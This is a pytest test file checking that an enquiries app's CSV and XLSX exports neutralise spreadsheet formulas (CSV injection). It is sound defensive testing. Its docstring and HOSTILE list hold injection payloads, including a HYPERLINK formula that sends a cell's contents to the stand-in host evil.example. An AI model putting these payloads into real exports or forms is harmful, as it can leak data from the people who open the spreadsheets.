"""Exported enquiries cannot run in a spreadsheet (OWASP's CSV injection rule).

Found: a name such as `=HYPERLINK("http://evil.example/?"&A2,"Click")` was
exported unchanged.
"""

import csv
import io

import openpyxl
import pytest

from enquiries.models import ContactSubmission
from tests.roles_support import (
    ENQUIRIES_STAFF,
    ENQUIRY_TEXT,
    World,
    client_for,
    make_user,
    submissions_url,
)


@pytest.fixture
def world(home, zh, django_capture_on_commit_callbacks):
    world = World(home, zh, django_capture_on_commit_callbacks)
    world.enquiry  # noqa: B018 - a contact page and an enquiry in each language
    return world


HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A2,"Click")',
    "+SUM(1,2)",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.fixture
def hostile_enquiries(world):
    page = world.contact["en"]
    for value in HOSTILE:
        ContactSubmission.objects.create(
            page=page, form_data={"name": value, "message": "Plain words"}
        )
    return page


def test_a_csv_export_neutralises_formulas(world, hostile_enquiries):
    client = client_for(make_user(ENQUIRIES_STAFF))
    response = client.get(submissions_url(world, "en"), {"export": "csv"})
    rows = list(csv.DictReader(io.StringIO(response.getvalue().decode())))
    names = [row["Name"] for row in rows if row["Message"] == "Plain words"]
    assert sorted(names) == sorted("'" + value for value in HOSTILE)
    assert ENQUIRY_TEXT["en"] in {row["Message"] for row in rows}  # plain text kept


def test_an_xlsx_export_holds_no_formula(world, hostile_enquiries):
    client = client_for(make_user(ENQUIRIES_STAFF))
    response = client.get(submissions_url(world, "en"), {"export": "xlsx"})
    sheet = openpyxl.load_workbook(io.BytesIO(response.getvalue())).active
    rows = list(sheet.iter_rows())
    assert all(cell.data_type != "f" for row in rows for cell in row)
    headings = [cell.value for cell in rows[0]]
    name, message = headings.index("Name"), headings.index("Message")
    names = [row[name].value for row in rows[1:] if row[message].value == "Plain words"]
    # XML reads a carriage return back as a line feed: the quote is what matters.
    assert sorted(names) == sorted("'" + v.replace("\r", "\n") for v in HOSTILE)
    assert ENQUIRY_TEXT["en"] in {row[message].value for row in rows}


def test_a_heading_typed_as_a_formula_is_neutralised_too(world):
    page = world.contact["en"]
    field = page.form_fields.get(label="Name")
    field.label = "=1+1"
    field.save()
    client = client_for(make_user(ENQUIRIES_STAFF))
    response = client.get(submissions_url(world, "en"), {"export": "csv"})
    headings = next(csv.reader(io.StringIO(response.getvalue().decode())))
    assert "'=1+1" in headings
    assert "=1+1" not in headings
